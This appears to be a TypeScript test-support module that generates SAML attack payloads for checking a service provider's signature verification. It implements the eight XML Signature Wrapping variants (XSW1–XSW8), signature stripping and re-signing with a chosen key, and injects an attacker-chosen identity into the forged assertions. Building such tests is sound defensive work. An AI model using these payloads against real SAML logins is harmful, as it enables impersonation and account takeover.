import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

/*
 * Crafting attack payloads from a response the test IdP signed (test support only): the
 * signature-wrapping variants XSW1–XSW8 of Somorovsky et al., "On Breaking SAML" (2012), a Response
 * signed by a given key, and signatures stripped.
 */

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
export const decode = (b64: string) => Buffer.from(b64, 'base64').toString('utf8');
export const encode = (xml: string) => Buffer.from(xml, 'utf8').toString('base64');
const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const serialize = (node: unknown) => new XMLSerializer().serializeToString(node as never);

const childrenOf = (element: Element, local: string): Element[] => Array.from(element.childNodes as unknown as Element[]).filter((n) => n.nodeType === 1 && n.localName === local);
const signatureOf = (element: Element) => childrenOf(element, 'Signature').find((n) => n.namespaceURI === DSIG);

/** Removes every ds:Signature from the document. */
export function stripSignatures(b64: string): string {
  return encode(decode(b64).replace(/<ds:Signature[\s\S]*?<\/ds:Signature>/g, ''));
}

/** Signs the whole Response (enveloped, exclusive c14n, RSA-SHA256) with `key`, the signature after its Issuer. */
export function signResponse(xml: string, key: { privateKey: string; certificate: string }): string {
  const signer = new SignedXml({ privateKey: key.privateKey, publicCert: key.certificate, signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#' });
  signer.addReference({ xpath: "/*[local-name(.)='Response']", transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'], digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256' });
  signer.computeSignature(xml, { prefix: 'ds', location: { reference: "/*[local-name(.)='Response']/*[local-name(.)='Issuer']", action: 'after' } });
  return signer.getSignedXml();
}

/** A copy of `assertion` without its signature, with a new ID and every NameID and attribute value `evil`. */
function evilCopy(assertion: Element, evil: { nameId: string; email: string }): Element {
  const copy = assertion.cloneNode(true) as Element;
  const signature = signatureOf(copy);
  if (signature) copy.removeChild(signature);
  copy.setAttribute('ID', '_evil');
  for (const node of Array.from(copy.getElementsByTagNameNS('*', 'NameID') as unknown as Element[])) node.textContent = evil.nameId;
  for (const node of Array.from(copy.getElementsByTagNameNS('*', 'AttributeValue') as unknown as Element[])) node.textContent = evil.email;
  return copy;
}

function object(doc: Document, content: Element): Element {
  const holder = doc.createElementNS(DSIG, 'ds:Object') as unknown as Element;
  holder.appendChild(content);
  return holder;
}

export type Wrapping = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';

/**
 * The wrapping `kind` applied to a signed response (`b64`): XSW1–2 need the Response signed, XSW3–8
 * the Assertion. The evil content names `evil` and stays unsigned; the signed original is moved
 * where a careless verifier still finds its signature valid.
 */
export function wrap(kind: Wrapping, b64: string, evil: { nameId: string; email: string }): string {
  const doc = parse(decode(b64));
  const response = doc.documentElement as unknown as Element;
  const [assertion] = childrenOf(response, 'Assertion');
  const badAssertion = evilCopy(assertion, evil);
  if (kind === 'XSW1' || kind === 'XSW2') {
    const signature = signatureOf(response)!;
    const original = response.cloneNode(true) as Element;
    original.removeChild(signatureOf(original)!);
    response.setAttribute('ID', '_evil_response');
    response.replaceChild(badAssertion, assertion);
    if (kind === 'XSW1') signature.appendChild(object(doc as unknown as Document, original));
    else response.insertBefore(original, signature.nextSibling);
    return encode(serialize(doc));
  }
  const signature = signatureOf(assertion)!;
  switch (kind) {
    case 'XSW3':
      response.insertBefore(badAssertion, assertion);
      break;
    case 'XSW4':
      response.replaceChild(badAssertion, assertion);
      badAssertion.appendChild(assertion);
      break;
    case 'XSW5': {
      badAssertion.insertBefore(signature.cloneNode(true), badAssertion.firstChild!.nextSibling);
      const bare = assertion.cloneNode(true) as Element;
      bare.removeChild(signatureOf(bare)!);
      response.replaceChild(badAssertion, assertion);
      response.appendChild(bare);
      break;
    }
    case 'XSW6': {
      const moved = signature.cloneNode(true) as Element;
      moved.appendChild(object(doc as unknown as Document, assertion.cloneNode(true) as Element));
      badAssertion.insertBefore(moved, badAssertion.firstChild!.nextSibling);
      response.replaceChild(badAssertion, assertion);
      break;
    }
    case 'XSW7': {
      const extensions = doc.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions') as unknown as Element;
      response.replaceChild(badAssertion, assertion);
      extensions.appendChild(assertion);
      response.insertBefore(extensions, badAssertion);
      break;
    }
    case 'XSW8': {
      const moved = signature.cloneNode(true) as Element;
      const bare = assertion.cloneNode(true) as Element;
      bare.removeChild(signatureOf(bare)!);
      moved.appendChild(object(doc as unknown as Document, bare));
      badAssertion.insertBefore(moved, badAssertion.firstChild!.nextSibling);
      response.replaceChild(badAssertion, assertion);
      break;
    }
  }
  return encode(serialize(doc));
}
